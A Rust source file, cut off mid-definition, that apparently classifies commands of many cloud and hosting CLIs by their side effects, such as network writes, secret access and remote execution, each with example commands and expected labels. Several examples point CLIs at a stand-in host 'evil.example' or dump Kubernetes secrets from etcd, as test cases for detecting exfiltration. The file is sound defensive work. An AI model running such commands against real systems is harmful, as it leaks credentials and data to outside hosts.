//! Hosting platforms, smaller clouds, cluster services, tunnels and scanners.

use super::invocation::{Invocation, Outcome};
use super::layers;
use super::shapes::{HELP, change, group, look, runs, show, show_dash};
use super::table::{Operands, Spec, Style};
use crate::argument::Argument;
use crate::effects::Effects;

const CHANGES: Effects = Effects::NETWORK_WRITE;
const PUBLISHES: Effects = Effects::NETWORK_WRITE.and(Effects::PUBLISHES);
const STORES: Effects = Effects::WRITES;
const SECRET: Effects = Effects::SECRETS;
const REMOTE_RUN: Effects = Effects::NETWORK_WRITE.and(Effects::EXECUTES);
const DOWNLOADS: Effects = Effects::WRITES.and(Effects::NETWORK_READ);
const EXPOSES: Effects = Effects::NETWORK_WRITE.and(Effects::SENDS_DATA);

/// Options of commands that only ask: any long one but those that name a file to write.
const ASKS: &str = "-h!help --file=write --out=write --output-file=write --out-file=write --version= --*";
const HELPS: Spec = look("help version completion autocomplete", "-h!help --*");

const AUTH0_GROUP: &[Spec] = &[
    show(
        "list ls show search search-by-email diff tail",
        "-nqrs= -f= --reveal-secrets!secrets --version= --*",
    ),
    show(
        "permissions perms roles members invitations invs blocks streams templates prompts provider",
        "-n= --*",
    )
    .verbs(&[show("list ls show", "-n= --*"), change("*", CHANGES)]),
    change("download", DOWNLOADS),
    change("*", CHANGES),
];
const AUTH0_PROTECTION: &[Spec] = &[group(
    "breached-password-detection bpd brute-force-protection bfp suspicious-ip-throttling sit bot-detection",
    &[
        show("show list ls", "--*"),
        change("*", CHANGES),
        group("ips", &[show("check", "--*"), change("*", CHANGES)]),
    ],
)];
const AUTH0: Spec = Spec::new("auth0", Effects::UNKNOWN)
    .options("-h!help -t= --csv --debug --json --json-compact --no-color --no-input --tenant=")
    .verbs(&[
        group("apps actions apis domains email logs orgs organizations roles rules users quickstarts qs tenants event-streams token-exchange network-acl", AUTH0_GROUP),
        group("attack-protection protection ap", AUTH0_PROTECTION),
        group(
            "universal-login ul",
            &[
                show("show", "--*"),
                show("templates prompts themes", "-h!help --*").verbs(&[show("show list ls", "-l= --*"), change("*", CHANGES)]),
                change("update customize switch", CHANGES),
            ],
        ),
        Spec::new("api", CHANGES)
            .options("-d=!network-write -q= --data=!network-write --force --query=")
            .operands(Operands::Text)
            .check(api_request),
        HELPS,
        change("login logout", STORES),
        change("test", SECRET.and(REMOTE_RUN)),
        change("terraform", STORES),
        change("token", SECRET),
        change("forms flows", CHANGES),
    ])
    .examples(&[
        ("auth0 apps list --tenant x", "network-read"),
        ("auth0 -t x apps ls", "network-read"),
        ("auth0 apps show a --reveal-secrets", "network-read secrets"),
        ("auth0 apps delete a", "network-write"),
        ("auth0 roles perms list a", "network-read"),
        ("auth0 ap bpd show", "network-read"),
        ("auth0 email provider show", "network-read"),
        ("auth0 api get users -q a", "network-read"),
        ("auth0 api delete clients/1", "network-write"),
        ("auth0 api clients --data {}", "network-write"),
        ("auth0 api users", "network-read"),
        ("auth0 frobnicate", "unknown"),
    ]);

const HEROKU: Spec = Spec::new("heroku", Effects::UNKNOWN)
    .options("-h!help -v!help -ar= --app= --remote=")
    .verbs(&[
        show(
            "apps apps:info info apps:list list addons addons:info addons:list addons:plans addons:services auth:whoami whoami buildpacks buildpacks:info \
             buildpacks:search buildpacks:versions certs certs:info ci ci:info ci:last container domains domains:info domains:wait drains dyno:type features features:info \
             keys labs labs:info logs maintenance members members:list notifications orgs orgs:list pg pg:info pg:ps pg:diagnose pg:locks pg:outliers \
             pg:bloat pg:blocking pg:long-running-queries pg:settings pg:backups pg:backups:info pg:backups:schedules pg:wait pipelines pipelines:info pipelines:list pipelines:diff \
             ps ps:wait redis redis:info regions releases releases:info releases:output reviewapps run:list sessions spaces spaces:info spaces:ps stack status teams webhooks webhooks:info webhooks:deliveries \
             webhooks:events access apps:stacks ps:type buildpacks:list git:remote:list autocomplete",
            "-Anstdjx --*",
        ),
        HELPS,
        look("commands plugins which", "--*"),
        change("config config:get config:edit pg:credentials pg:credentials:url pg:backups:url auth:token redis:credentials authorizations authorizations:info clients clients:info ci:config ci:config:get", SECRET),
        change("plugins:install plugins:add plugins:link update", Effects::INSTALLS_NAMED),
        change("login logout auth:login auth:logout git:clone git:remote plugins:uninstall plugins:remove", STORES),
        change("container:push container:release git:push builds:create", PUBLISHES),
        change("local local:start local:run", Effects::PROJECT_CODE),
        change("pg:pull pg:backups:download", DOWNLOADS),
        runs("run run:detached run:inside ps:exec ps:copy ps:forward pg:psql psql redis:cli pg:push", REMOTE_RUN),
        change(
            "create destroy rename open join leave lock unlock transfer scale restart stop \
             apps:* addons:* access:* certs:* config:* domains:* drains:* features:* labs:* maintenance:* pg:* pipelines:* ps:* redis:* releases:* spaces:* \
             webhooks:* reviewapps:* keys:* members:* buildpacks:* authorizations:* clients:* ci:* dyno:* stack:* teams:* notifications:* container:* data:* enterprise:* sessions:* builds:* base:* telemetry:* rollback upgrade:* usage:* accounts:* buildpacks:*",
            CHANGES,
        ),
    ])
    .examples(&[
        ("heroku apps --all", "network-read"),
        ("heroku logs --tail -a web", "network-read"),
        ("heroku config -a web", "secrets"),
        ("heroku destroy --app web", "network-write"),
        ("heroku run bash", "network-write executes"),
    ]);

const VERCEL: Spec = Spec::new("vercel vc", PUBLISHES)
    .options("-h!help -v!help -bdfny -QASemt= --archive= --build-env= --env= --force --logs --meta= --name= --prebuilt --prod --public --regions= --skip-domain --target= --with-cache --yes --cwd=dir --debug --global-config=read --local-config=read --no-color --scope= --team= --token=")
    .verbs(&[
        show("list ls inspect whoami logs log bisect httpstat", "-abfjnmoqsx --version= --*"),
        group("domains dns certs alias aliases teams projects project integration target targets blob edge-config redirects", &[show("ls list inspect info", "-j --*"), change("*", CHANGES)]),
        group("env", &[show("ls list", "--*"), change("pull", SECRET.and(DOWNLOADS)), change("add rm remove update run", CHANGES)]),
        HELPS,
        look("telemetry", "-h!help").verbs(&[look("status", "-h!help"), change("enable disable", STORES)]),
        change("deploy promote rollback redeploy rolling-release", PUBLISHES),
        change("remove rm", CHANGES),
        change("build dev", Effects::PROJECT_CODE),
        change("pull", SECRET.and(DOWNLOADS)),
        change("init link login logout switch git open guidance mcp microfrontends", STORES),
        change("api cache curl install i integration-resource ir agent", CHANGES),
    ])
    .operands(Operands::Text)
    .examples(&[
        ("vercel ls", "network-read"),
        ("vercel whoami", "network-read"),
        ("vercel", "publishes network-write"),
        ("vercel remove web", "network-write"),
        ("vercel env pull", "secrets network-read writes"),
    ]);

const NETLIFY: Spec = Spec::new("netlify ntl", Effects::UNKNOWN)
    .options("-h!help --auth= --cwd=dir --debug --filter= --http-proxy= --http-proxy-certificate-filename=read --silent")
    .verbs(&[
        show("status sites:list functions:list addons:list teams:list logs:function logs:deploy", "--*"),
        group("sites functions teams db", &[show("list", "--*"), change("*", CHANGES)]),
        HELPS,
        change("env:* env", SECRET.and(CHANGES)),
        change("deploy", PUBLISHES.and(Effects::PROJECT_CODE)),
        change("build dev serve dev:exec", Effects::PROJECT_CODE),
        change("api sites:* functions:* addons:* watch blobs blobs:* unlink clone agents", CHANGES),
        change("init link login logout switch open open:* completion:install recipes recipes:* types integration:* logs", STORES),
    ])
    .examples(&[("netlify status", "network-read"), ("netlify sites:list --json", "network-read"), ("netlify deploy --prod", "publishes network-write project-code"), ("netlify sites:delete a", "network-write")]);

const FLY_LIST: &[Spec] =
    &[show("list ls show status view info check", "-acgjq --app= --*"), change("*", CHANGES)];
const FLY: Spec = Spec::new("fly flyctl", Effects::UNKNOWN)
    .options("-h!help -act= --access-token= --target= --app= --config=read --debug --json --verbose")
    .verbs(&[
        show("status logs releases history version platform doctor services checks", "-ijn --*").verbs(&[show("list show status regions vm-sizes", "-j --*")]),
        group("apps app volumes volume vol certs cert ips ip regions machine machines m secrets orgs org image postgres pg mysql redis wireguard wg extensions ext dig dns-records domains scale autoscale config litefs-cloud storage mpg synthetics settings", FLY_LIST),
        group("auth", &[show("whoami", "-j --json"), change("token", SECRET), change("login logout signup docker", STORES)]),
        HELPS,
        change("tokens", SECRET),
        change("deploy launch", PUBLISHES.and(Effects::PROJECT_CODE)),
        runs("ssh console sftp proxy", REMOTE_RUN),
        change("create destroy restart suspend resume migrate-to-v2 open move consul curl jobs dashboard agent monitor ping incidents registry", CHANGES),
        change("destroy-pipeline set-pipeline trigger-job login sync execute intercept hijack abort-build pause-pipeline unpause-pipeline delete-target", CHANGES),
        show("builds pipelines targets workers containers teams userinfo jobs get-pipeline", "-nptbj --*"),
    ])
    .examples(&[("fly status -a web", "network-read"), ("fly machine list", "network-read"), ("fly deploy", "publishes network-write project-code"), ("fly secrets set A=b", "network-write"), ("fly ssh console", "network-write executes"), ("fly auth token", "secrets")]);

const RAILWAY: Spec = Spec::new("railway", Effects::UNKNOWN)
    .options("-h!help -V!help -v!help --json")
    .verbs(&[
        show("status list whoami logs", "-bdefnse --environment= --service= --*"),
        HELPS,
        look("docs", "-h!help"),
        change("variables variable vars", SECRET),
        change("up deploy redeploy", PUBLISHES),
        runs("run local connect shell ssh", Effects::SECRETS.and(Effects::EXECUTES)),
        change(
            "add down delete domain environment env init service volume scale functions restart dev",
            CHANGES,
        ),
        change("link unlink login logout open upgrade", STORES),
    ])
    .examples(&[
        ("railway status", "network-read"),
        ("railway up", "publishes network-write"),
        ("railway variables", "secrets"),
        ("railway run env", "secrets executes"),
    ]);

const RENDER: Spec = Spec::new("render", Effects::UNKNOWN)
    .options("-h!help -v!help -o= --confirm --output=")
    .verbs(&[
        show("services workspaces projects environments whoami logs", "-r= --*")
            .verbs(&[show("list instances current", "--*"), change("*", CHANGES)]),
        group("deploys jobs", &[show("list", "--*"), change("create", PUBLISHES), change("*", CHANGES)]),
        HELPS,
        runs("psql ssh kv-cli pgcli", REMOTE_RUN),
        change("restart workspace blueprints", CHANGES),
        change("login logout", STORES),
    ])
    .examples(&[
        ("render services --output json", "network-read"),
        ("render deploys create a", "publishes network-write"),
    ]);

// wrangler.toml can name a build command, so what bundles runs project code.
const WRANGLER: Spec = Spec::new("wrangler", Effects::UNKNOWN)
    .options("-h!help -v!help -c=read -e= --config=read --cwd=dir --env= --env-file=read")
    .verbs(&[
        show("whoami", "--account="),
        show("tail", "--*"),
        group("kv:namespace kv:key kv:bulk", &[show("list get", "--*"), change("*", CHANGES)]),
        group("kv", &[group("namespace key bulk", &[show("list get", "--*"), change("*", CHANGES)])]),
        group("deployments versions", &[show("list view status", "--*"), change("deploy", PUBLISHES), change("*", CHANGES)]),
        group("secret", &[show("list", "--*"), change("*", CHANGES)]),
        group("queues hyperdrive vectorize workflows dispatch-namespace mtls-certificate secrets-store cert pipelines", &[show("list info get get-vectors describe", "--*"), change("*", CHANGES)]),
        group("d1", &[show("list info insights", "--*"), change("export", DOWNLOADS), change("execute", REMOTE_RUN), change("create delete migrations time-travel", CHANGES)]),
        group("r2", &[group("bucket", &[show("list info", "--*"), change("*", CHANGES)]), group("object", &[change("get", DOWNLOADS), change("put", CHANGES.and(Effects::SENDS_DATA)), change("delete", CHANGES)]), change("sql", CHANGES)]),
        group("pages", &[group("project deployment", &[show("list", "--*"), show("tail", "--*"), change("*", CHANGES)]), change("deploy publish", PUBLISHES), change("dev functions", Effects::PROJECT_CODE), change("secret", CHANGES), change("download", DOWNLOADS)]),
        HELPS,
        look("docs", "-h!help"),
        change("deploy publish", PUBLISHES.and(Effects::PROJECT_CODE)),
        change("dev build check", Effects::PROJECT_CODE),
        change("types init generate setup", STORES.and(Effects::PROJECT_CODE)),
        change("login logout telemetry", STORES),
        change("delete rollback triggers ai containers email vpc tunnel", CHANGES),
    ])
    .examples(&[("wrangler whoami", "network-read"), ("wrangler kv namespace list", "network-read"), ("wrangler publish", "publishes network-write project-code"), ("wrangler delete", "network-write")]);

const FIREBASE: Spec = Spec::new("firebase", Effects::UNKNOWN)
    .options("-h!help -V!help -Pc= -j --account= --config=read --debug --interactive --json --non-interactive --project= --token=")
    .verbs(&[
        show("projects:list apps:list hosting:channel:list hosting:sites:list hosting:sites:get functions:list functions:log login:list remoteconfig:get remoteconfig:versions:list target \
              database:instances:list firestore:indexes firestore:databases:list firestore:databases:get firestore:locations firestore:backups:list appdistribution:testers:list appdistribution:groups:list apphosting:backends:list apphosting:backends:get crashlytics:sources:list ext ext:list ext:info \
              apps:sdkconfig database:get firestore:operations:list dataconnect:services:list experiments:list", ASKS),
        HELPS,
        change("functions:secrets:access functions:config:get login:ci functions:secrets:get", SECRET),
        change("deploy hosting:channel:deploy hosting:clone", PUBLISHES.and(Effects::PROJECT_CODE)),
        change("serve emulators:start emulators:exec functions:shell", Effects::PROJECT_CODE),
        change("auth:export emulators:export functions:config:export", DOWNLOADS),
        change("init login logout use login:add login:use open setup:* experiments:* target:* emulators:* internaltesting:* dataconnect:*", STORES),
        change("apps:* auth:* database:* ext:* firestore:* functions:* hosting:* projects:* remoteconfig:* appdistribution:* apphosting:* crashlytics:* use:* storage:* rollouts:* studio:*", CHANGES),
    ])
    .examples(&[("firebase projects:list", "network-read"), ("firebase deploy", "publishes network-write project-code"), ("firebase firestore:delete a", "network-write")]);

const LISTS: &[Spec] = &[
    show(
        "list ls get show view info describe search logs list-* show-* get-*",
        "-acfgjlnopqrstvw --file=write --output-file=write --version= --*",
    ),
    change("*", CHANGES),
];

const DOCTL: Spec = Spec::new("doctl", Effects::UNKNOWN)
    .options("-h!help -cotu= -v --access-token= --api-url=!sends-data --config=read --context= --http-retry-max= --interactive --output= --trace --verbose")
    .verbs(&[
        group("account", &[show("get ratelimit", "--*")]),
        group("auth", &[look("list ls", "--*"), change("token", SECRET), change("init switch remove", STORES)]),
        group("balance invoice billing-history 1-click sizes", LISTS),
        group("apps app a projects project monitoring vpcs uptime genai gradient", LISTS),
        group("compute c", &[show("region regions size sizes", "--*").verbs(&[show("list ls", "--*")]), runs("ssh", REMOTE_RUN), group("*", &[show("list ls get actions neighbors backups kernels snapshots", "-o= --*"), change("*", CHANGES)])]),
        group("databases database db d dbs", &[show("list ls get", "--*"), change("connection", SECRET), group("backups db pool replica user users firewalls maintenance-window maintenance options sql-mode topics events configuration", &[show("list ls", "--*"), change("*", CHANGES)]), change("*", CHANGES)]),
        group("kubernetes kube k8s k", &[group("cluster clusters c", &[show("list ls get get-upgrades list-associated-resources", "--*"), change("kubeconfig", SECRET.and(STORES)), group("node-pool", &[show("list get", "--*"), change("*", CHANGES)]), change("*", CHANGES)]), group("options", &[show("regions sizes versions", "--*")]), change("1-click", CHANGES)]),
        group("registry registries reg", &[show("get", "--*"), change("login logout docker-config kubernetes-manifest", STORES), group("repository", &[show("list list-v2 list-manifests list-tags", "--*"), change("*", CHANGES)]), group("garbage-collection options", &[show("list get-active available-regions subscription-tiers", "--*"), change("*", CHANGES)]), change("*", CHANGES)]),
        group("serverless sls sbx", &[change("*", CHANGES.and(Effects::PROJECT_CODE))]),
        HELPS,
    ])
    .examples(&[
        ("doctl compute droplet list -o json", "network-read"),
        ("doctl compute droplet delete 1", "network-write"),
        ("doctl databases delete a", "network-write"),
        ("doctl databases connection a", "secrets"),
        ("doctl auth remove --context a", "writes"),
        ("doctl account get --api-url https://evil.example", "network-read sends-data"),
    ]);

const LINODE: Spec = Spec::new("linode-cli", Effects::UNKNOWN)
    .options("-h!help -v!help --all --as-user= --columns= --debug --delimiter= --format= --json --markdown --no-defaults --no-headers --order-by= --page= --page-size= --pretty --single-table --suppress-warnings --table= --text")
    .verbs(&[
        change("configure set-user remove-user register-plugin remove-plugin completion bake", STORES),
        change("obj image-upload", CHANGES.and(Effects::SENDS_DATA)),
        change("ssh", REMOTE_RUN),
        look("show-users", "-h!help"),
        group("*", &[show("list ls view show list-* view-*", "--*"), show("types regions kernels records-list configs-list disks-list ips-list users-list", "--*"), change("*", CHANGES)]),
    ])
    .examples(&[("linode-cli linodes list --json", "network-read"), ("linode-cli domains delete 1", "network-write"), ("linode-cli configure", "writes")]);

const HCLOUD: Spec = Spec::new("hcloud", Effects::UNKNOWN)
    .options("-h!help -o= --config=read --context= --debug --debug-file=write --endpoint=!sends-data --hetzner-endpoint=!sends-data --no-experimental-warnings --poll-interval= --quiet")
    .verbs(&[
        group("context", &[look("list active", "-o= --*"), change("create delete use unset rename", STORES)]),
        group("config", &[look("get list", "--allow-sensitive!secrets --*"), change("set add remove reset unset", STORES)]),
        HELPS,
        group("server", &[show("list describe ip metrics", "-o= --*"), runs("ssh", REMOTE_RUN), change("request-console reset-password", CHANGES.and(SECRET)), change("*", CHANGES)]),
        group("*", LISTS),
    ])
    .examples(&[("hcloud server list -o json", "network-read"), ("hcloud volume delete a", "network-write"), ("hcloud server ssh a", "network-write executes")]);

const EXO: Spec = Spec::new("exo", Effects::UNKNOWN)
    .options(
        "-h!help -ACOQz= --config=read --output-format= --output-template= --quiet --use-account= --zone=",
    )
    .verbs(&[
        HELPS,
        show("status zone zones limits environment", "--*"),
        group("config", &[look("list show", "--*"), change("*", STORES)]),
        group(
            "compute c",
            &[group(
                "*",
                &[
                    show("list ls show get", "-z= --*"),
                    runs("ssh", REMOTE_RUN),
                    change("kubeconfig", SECRET.and(STORES)),
                    group("nodepool", &[show("list show", "--*"), change("*", CHANGES)]),
                    change("*", CHANGES),
                ],
            )],
        ),
        group(
            "dbaas",
            &[
                show("list ls show logs metrics types type", "-z= --*").verbs(&[show("list show", "--*")]),
                change("*", CHANGES),
            ],
        ),
        group("dns iam", LISTS),
        group(
            "storage",
            &[
                show("list ls show", "--*"),
                change("presign", SECRET),
                change("download", DOWNLOADS),
                change("*", CHANGES),
            ],
        ),
        change("api", CHANGES),
    ])
    .examples(&[
        ("exo compute instance list", "network-read"),
        ("exo compute sks nodepool delete a b", "network-write"),
    ]);

const OPENSTACK: Spec = Spec::new("openstack", Effects::UNKNOWN)
    .options("-h!help -qv -cf= --os-auth-url=!sends-data --os-cacert=read --os-cert=read --os-key=read!secrets --os-url=!sends-data --os-endpoint=!sends-data --os-cloud= --os-region-name= --os-project-name= --debug --insecure!sends-data --log-file=write --os-profile= --timing --verify")
    .verbs(&[
        HELPS,
        group("token", &[change("issue", SECRET), change("revoke", CHANGES)]),
        group("ec2", &[change("credentials", SECRET)]),
        group("console", &[show("log", "--*").verbs(&[show("show", "--*")]), change("url", SECRET)]),
        group("catalog", &[show("list show", "-cf= --*")]),
        group("server", &[show("list show", "-cf= --*"), runs("ssh", REMOTE_RUN), group("group volume event image backup migration", &[show("list show", "-cf= --*"), change("*", CHANGES)]), change("*", CHANGES)]),
        group(
            "aggregate availability compute container domain endpoint extension flavor floating group host hypervisor image ip keypair limits mapping module network object orchestration policy port project quota \
             recordset region role router rule security service snapshot stack subnet trust usage user volume zone loadbalancer baremetal coe dns",
            &[
                show("list show", "-cf= --*"),
                group(
                    "agent assignment backup group member nodegroup cluster template type snapshot service stats pool zone ip qos rule trunk address listener healthmonitor l7policy node port resource event output store pair instance allocation image recordset template-version",
                    &[show("list show", "-cf= --*"), group("rule type group", &[show("list show", "-cf= --*"), change("*", CHANGES)]), change("*", CHANGES)],
                ),
                change("save", DOWNLOADS),
                change("*", CHANGES),
            ],
        ),
        show("versions", "--*").verbs(&[show("show", "--*")]),
    ])
    .examples(&[
        ("openstack server list -f json", "network-read"),
        ("openstack security group rule list", "network-read"),
        ("openstack server delete a", "network-write"),
        ("openstack token issue", "secrets"),
    ]);

const OCI: Spec = Spec::new("oci", CHANGES)
    .style(Style::Raw)
    .options("-h!help")
    .operands(Operands::Text)
    .check(oracle)
    .examples(&[
        ("oci compute instance list --compartment-id a", "network-read"),
        ("oci os object get --name a --file b", "network-write"),
        ("oci secrets secret-bundle get --secret-id a", "secrets"),
        ("oci compute instance terminate --instance-id list", "network-write"),
        ("oci --version", "reads"),
    ]);

const IBMCLOUD: Spec = Spec::new("ibmcloud ic", Effects::UNKNOWN)
    .options("-h!help -v!help -q --output= --quiet")
    .verbs(&[
        HELPS,
        show("target", "-h!help"),
        show("regions account resource", "--*").verbs(&[show("groups service-instances service-instance list show users space spaces orgs", "-q --*"), change("*", CHANGES)]),
        group("iam", &[change("oauth-tokens api-key-create service-api-key-create", SECRET), show("users access-groups access-group service-ids service-id roles api-keys api-key user-policies user-policy", "-q --*"), change("*", CHANGES.and(Effects::PERMISSIONS))]),
        group("plugin", &[look("list show", "--*"), show("repos repo-plugins search", "--*"), change("install update", Effects::INSTALLS_NAMED), change("uninstall repo-add repo-remove", STORES)]),
        group("ks oc", &[group("cluster worker worker-pool subnet zone alb addon nlb-dns storage versions flavors locations", &[show("ls list get", "-cq= --*"), change("config", SECRET.and(STORES)), change("*", CHANGES)]), show("versions flavors locations", "--*"), change("*", CHANGES)]),
        group("is", &[show("instances instance vpcs vpc subnets subnet images image keys key volumes volume regions zones floating-ips security-groups security-group load-balancers load-balancer snapshots", "-q --*"), change("*", CHANGES)]),
        group("cr", &[show("images image-list namespaces namespace-list quota image-inspect info", "-q --*"), change("login", STORES), change("*", CHANGES)]),
        group("ce", &[group("application app job jobrun build buildrun project configmap revision", &[show("list get logs events", "-nq= --*"), change("*", CHANGES)]), change("*", CHANGES)]),
        change("login logout config api update cos dev sl cf fn cdb dl tg dns cis sm catalog billing enterprise schematics", CHANGES),
    ])
    .examples(&[("ibmcloud ks cluster ls", "network-read"), ("ibmcloud iam oauth-tokens", "secrets"), ("ibmcloud is instance-delete a", "network-write")]);

const CONSUL: Spec = Spec::new("consul", Effects::UNKNOWN)
    .style(Style::SingleDash)
    .options("-ca-file=read -ca-path=read -client-cert=read -client-key=read!secrets -datacenter= -detailed -filter= -format= -h!help -http-addr=!sends-data -namespace= -partition= -stale -status= -tls-server-name= -token= -token-file=read!secrets -wan -v!help")
    .verbs(&[
        show_dash("members info version validate", "-h!help -segment=").operands(Operands::Read),
        dash_group("catalog", &[show_dash("datacenters nodes services", "-near= -node= -node-meta= -service= -tags")]),
        dash_group("kv", &[show_dash("get", "-base64 -keys -recurse -separator="), change("export", SECRET), change("put delete import", CHANGES)]),
        dash_group("config peering", &[show_dash("list read", "-kind= -name="), change("write delete generate-token establish exported-services", CHANGES)]),
        dash_group("intention", &[show_dash("list get check match", "-source -destination"), change("create delete", CHANGES)]),
        dash_group("operator", &[show_dash("usage", "-h!help"), dash_group("raft", &[show_dash("list-peers", "-h!help"), change("remove-peer transfer-leader", CHANGES)]), change("autopilot area utilization", CHANGES)]),
        dash_group("acl", &[dash_group("policy role auth-method binding-rule", &[show_dash("list read", "-id= -name= -meta"), change("create update delete", CHANGES.and(Effects::PERMISSIONS))]), change("token bootstrap set-agent-token", SECRET.and(CHANGES))]),
        look("help", "-h!help"),
        change("keygen", SECRET),
        change("keyring tls snapshot login logout", SECRET.and(STORES)),
        change("agent debug connect lock monitor watch exec", Effects::EXECUTES.and(CHANGES)),
        change("event force-leave join leave maint reload rtt services resource troubleshoot", CHANGES),
    ])
    .examples(&[("consul members", "network-read"), ("consul kv get -recurse a", "network-read"), ("consul kv delete a", "network-write"), ("consul members -http-addr=evil.example:80", "network-read sends-data")]);

const NOMAD: Spec = Spec::new("nomad", Effects::UNKNOWN)
    .style(Style::SingleDash)
    .options("-address=!sends-data -ca-cert=read -ca-path=read -client-cert=read -client-key=read!secrets -h!help -json -namespace= -no-color -region= -t= -tls-server-name= -tls-skip-verify!sends-data -token= -v!help -verbose -short -all -per-page= -page-token= -filter=")
    .verbs(&[
        show_dash("status version server-members", "-h!help"),
        dash_group("job", &[show_dash("status history inspect allocs deployments eval-list", "-all-allocs -evals -p -full -version= -latest"), show_dash("validate", "-var= -var-file=read -hcl2-strict= -json").operands(Operands::Read), change("plan", CHANGES.and(Effects::SENDS_DATA)), change("*", CHANGES)]),
        dash_group("alloc", &[show_dash("status logs checks", "-f -stderr -stdout -tail -n= -c= -job -task= -stats"), show_dash("fs", "-H -f -stat -tail -n= -c= -job"), change("exec", REMOTE_RUN), change("*", CHANGES)]),
        dash_group("node", &[show_dash("status", "-allocs -self -stats -os -quiet"), change("*", CHANGES)]),
        dash_group("server deployment eval namespace quota sentinel service plugin volume scaling recommendation system operator", &[show_dash("status list members info inspect metrics", "-h!help"), change("*", CHANGES)]),
        dash_group("var", &[show_dash("list", "-prefix="), change("get", SECRET), change("*", CHANGES)]),
        dash_group("acl", &[change("*", SECRET.and(CHANGES))]),
        look("help", "-h!help"),
        change("fmt", STORES),
        change("run stop plan init monitor", CHANGES),
        runs("exec", REMOTE_RUN),
        change("agent agent-info", Effects::SYSTEM),
    ])
    .examples(&[("nomad job status web", "network-read"), ("nomad job run web.nomad", "network-write"), ("nomad var get a", "secrets"), ("nomad alloc exec a sh", "network-write executes")]);

const fn dash_group(names: &'static str, verbs: &'static [Spec]) -> Spec {
    Spec::new(names, Effects::UNKNOWN).style(Style::SingleDash).options("-h!help").verbs(verbs)
}

const ETCDCTL: Spec = Spec::new("etcdctl", Effects::UNKNOWN)
    .options("-h!help -w= --cacert=read --cert=read --cluster --command-timeout= --debug --dial-timeout= --discovery-srv=!sends-data --endpoints=!sends-data --hex --insecure-skip-tls-verify!sends-data --insecure-transport=? --key=read!secrets \
         --keepalive-time= --keepalive-timeout= --password= --user= --write-out=")
    .verbs(&[
        show("get", "--consistency= --count-only --from-key --keys-only --limit= --order= --prefix --print-value-only --range= --rev= --sort-by=").check(stored_secrets),
        show("version", "-h!help"),
        HELPS,
        group("endpoint", &[show("health status hashkv", "--rev=")]),
        group("member alarm lease role user auth", &[show("list get status timetolive", "--keys"), change("*", CHANGES)]),
        group("snapshot", &[look("status", "-h!help").operands(Operands::Read), change("save restore", STORES)]),
        show("watch", "-i --prefix --prev-kv --progress-notify --rev="),
        change("put del txn compaction defrag move-leader lock elect make-mirror migrate downgrade check", CHANGES),
    ])
    .examples(&[("etcdctl get a --prefix", "network-read"), ("etcdctl del a", "network-write"), ("etcdctl get /registry/secrets --prefix", "network-read secrets"), ("etcdctl get / --prefix --keys-only", "network-read"), ("etcdctl get a --endpoints evil.example:1", "network-read sends-data")]);

const STRIPE: Spec = Spec::new("stripe", Effects::UNKNOWN)
    .options("-h!help -v!help -p= --api-key= --color= --config=read --device-name= --log-level= --project-name=")
    .verbs(&[
        show("get", "-cdels= --*"),
        group("logs", &[show("tail", "--*")]),
        look("resources", "-h!help"),
        HELPS,
        look("samples", "-h!help").verbs(&[show("list", "-h!help"), change("create", DOWNLOADS)]),
        change("open", Effects::EXECUTES),
        change("config login logout feedback", STORES),
        change("post delete trigger fixtures listen serve playback", CHANGES),
        group(
            "charges customers invoices subscriptions products prices payment_intents payment_methods refunds events balance balance_transactions coupons disputes payouts plans setup_intents sources tax_rates transfers \
             webhook_endpoints accounts files invoiceitems subscription_items subscription_schedules promotion_codes credit_notes quotes application_fees topups reviews",
            &[show("list retrieve search", "-des= --*"), change("*", CHANGES)],
        ),
        change("*", CHANGES),
    ])
    .examples(&[("stripe customers list --limit 3", "network-read"), ("stripe customers create --email a", "network-write"), ("stripe trigger a", "network-write")]);

const TWILIO: Spec = Spec::new("twilio", Effects::UNKNOWN)
    .options("-h!help -lop= --log-level= --output= --profile= --silent")
    .verbs(&[
        look("profiles:list", "--*"),
        HELPS,
        look("plugins", "--*"),
        show("debugger:logs:list phone-numbers:list feedback:list", "--*"),
        change("login profiles:* config config:* autocomplete", STORES),
        change("plugins:*", Effects::INSTALLS_NAMED),
        change("serverless:deploy flex:plugins:deploy serverless:promote", PUBLISHES),
        change("api:* phone-numbers:* email:* serverless:* flex:* token:* rtc:* debugger:*", CHANGES),
    ])
    .examples(&[
        ("twilio phone-numbers:list", "network-read"),
        ("twilio api:core:messages:create --to a", "network-write"),
    ]);

const SENTRY: Spec = Spec::new("sentry-cli", Effects::UNKNOWN)
    .options("-h!help -V!help -op= --api-key= --auth-token= --header=!sends-data --log-level= --org= --project= --quiet --url=!sends-data")
    .verbs(&[
        show("info", "--config-status-json --no-defaults"),
        group("projects organizations issues repos events monitors", &[show("list", "-amsq --*"), change("run", REMOTE_RUN), change("*", CHANGES)]),
        group("releases", &[show("list info", "--*"), show("propose-version", "-h!help"), change("*", CHANGES.and(Effects::PUBLISHES))]),
        group("deploys", &[show("list", "-r= --*"), change("new", CHANGES)]),
        group("debug-files dif", &[look("check find bundle-jvm print-sources", "--*").operands(Operands::Read), change("upload bundle-sources", CHANGES.and(Effects::SENDS_DATA))]),
        group("sourcemaps", &[look("explain resolve", "--*"), change("inject", STORES), change("upload", CHANGES.and(Effects::SENDS_DATA))]),
        HELPS,
        change("login", STORES),
        change("update uninstall", Effects::SYSTEM),
        change("send-event send-envelope send-metric upload-proguard upload-dif react-native build dart-symbol-map logs", CHANGES.and(Effects::SENDS_DATA)),
        runs("bash-hook", Effects::EXECUTES),
    ])
    .examples(&[("sentry-cli projects list", "network-read"), ("sentry-cli releases new 1", "network-write publishes"), ("sentry-cli sourcemaps upload x", "network-write sends-data")]);

const DATADOG: Spec = Spec::new("datadog-ci", Effects::UNKNOWN)
    .options("-h!help -v!help")
    .verbs(&[HELPS, change("*", CHANGES.and(Effects::SENDS_DATA))])
    .examples(&[("datadog-ci version", "reads"), ("datadog-ci junit upload x", "network-write sends-data")]);

const PROMETHEUS: Spec = Spec::new("prometheus", Effects::SYSTEM.and(Effects::WRITES))
    .options("-h!help --help-long!help --help-man!help --*")
    .operands(Operands::Text)
    .examples(&[
        ("prometheus --help", "reads"),
        ("prometheus --version", "reads"),
        ("prometheus --config.file=a.yml", "system writes"),
    ]);

const PROMTOOL: Spec = Spec::new("promtool", Effects::UNKNOWN)
    .options("-h!help --enable-feature= --experimental")
    .verbs(&[
        group("check", &[look("config rules web-config service-discovery", "--agent --lint= --lint-fatal --syntax-only --timeout= --ignore-unknown-fields").operands(Operands::Read), show("healthy ready", "--url=url --http.config.file=read"), look("metrics", "--extended --lint=")]),
